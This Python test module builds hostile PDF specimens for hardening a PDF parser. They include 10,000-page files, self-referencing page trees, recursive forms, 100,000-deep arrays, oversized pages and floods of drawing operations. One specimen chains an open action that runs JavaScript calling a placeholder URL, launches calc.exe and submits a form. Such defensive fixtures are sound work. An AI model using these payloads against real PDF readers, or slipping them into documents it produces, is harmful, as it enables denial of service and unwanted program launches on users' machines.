"""PDF files made to harm."""

from __future__ import annotations

from hostile_base import NOWHERE, specimen


def pdf(objects: list[bytes], *, version: bytes = b"1.7") -> bytes:
    """A PDF of numbered objects, the first of which is the catalogue."""
    out, places = bytearray(b"%PDF-" + version + b"\n"), []
    for number, content in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, content)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    return bytes(out) + b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, start)


def stream(content: bytes, more: bytes = b"") -> bytes:
    """A PDF stream object."""
    return b"<<%b/Length %d>>stream\n%b\nendstream" % (more, len(content), content)


_FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
_TEXT = b"BT /F1 12 Tf 50 700 Td (Expenditure 12.34) Tj ET"


def _page(parent: int, content: int, font: int) -> bytes:
    return b"<</Type/Page/Parent %d 0 R/MediaBox[0 0 595 842]/Contents %d 0 R/Resources<</Font<</F1 %d 0 R>>>>>>" % (
        parent,
        content,
        font,
    )


@specimen
def pdf_of_10000_pages() -> bytes:
    """10,000 pages of one line."""
    kids = b" ".join(b"%d 0 R" % number for number in range(5, 10_005))
    head = [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 10000/Kids[%b]>>" % kids, _FONT, stream(_TEXT)]
    return pdf([*head, *[_page(2, 4, 3)] * 10_000])


@specimen
def pdf_pages_loop() -> bytes:
    """A page tree that contains itself."""
    return pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Count 5/Kids[2 0 R 3 0 R 2 0 R]/Parent 3 0 R>>",
            b"<</Type/Pages/Count 9/Kids[2 0 R 3 0 R]/Parent 2 0 R>>",
        ]
    )


@specimen
def pdf_claims_a_billion_pages() -> bytes:
    """A count that is a lie."""
    return pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 1000000000/Kids[3 0 R]>>", _page(2, 4, 4)])


@specimen
def pdf_form_calls_itself() -> bytes:
    """A form that draws itself twice."""
    form = stream(b"/X Do /X Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 4 0 R>>>>")
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 5 0 R/Resources<</XObject<</X 4 0 R>>>>>>"
    return pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 1/Kids[3 0 R]>>", page, form, stream(b"/X Do")])


@specimen
def pdf_streams_that_name_each_other() -> bytes:
    """A length that is the stream itself, and an object stream inside itself."""
    odd = b"<</Type/ObjStm/N 1/First 5/Length 5 0 R/Extends 5 0 R>>stream\n5 0 <<>>\nendstream"
    return pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 1/Kids[3 0 R]>>", _page(2, 5, 5), _FONT, odd])


@specimen
def pdf_deep_arrays() -> bytes:
    """Arrays 100,000 deep."""
    deep = b"[" * 100_000 + b"]" * 100_000
    return pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 1/Kids %b>>" % deep])


@specimen
def pdf_actions() -> bytes:
    """JavaScript, a launched program, a submitted form and a remote file, all at opening."""
    where = NOWHERE.encode()
    action = b"<</S/JavaScript/JS(app.launchURL('%b'))/Next<</S/Launch/F(calc.exe)/Next<</S/SubmitForm/F(%b)>>>>>>" % (
        where,
        where,
    )
    return pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R/OpenAction %b/AA<</O %b>>>>" % (action, action),
            b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
            _page(2, 4, 5),
            stream(_TEXT),
            _FONT,
        ]
    )


@specimen
def pdf_huge_page() -> bytes:
    """A page a million points wide, without text: a picture of it would fill the memory."""
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99999999 99999999]>>"
    return pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 1/Kids[3 0 R]>>", page])


@specimen
def pdf_many_lines() -> bytes:
    """100,000 crossing lines on one page."""
    lines = b"".join(
        b"%d 0 m %d 842 l S 0 %d m 595 %d l S\n" % (i % 595, i % 595, i % 842, i % 842) for i in range(50_000)
    )
    return pdf(
        [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 1/Kids[3 0 R]>>", _page(2, 4, 5), stream(lines), _FONT]
    )


@specimen
def pdf_many_letters() -> bytes:
    """200,000 letters at one place."""
    text = b"BT /F1 12 Tf 50 700 Td " + b"(1234567890) Tj 0 0 Td " * 20_000 + b"ET"
    return pdf(
        [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 1/Kids[3 0 R]>>", _page(2, 4, 5), stream(text), _FONT]
    )
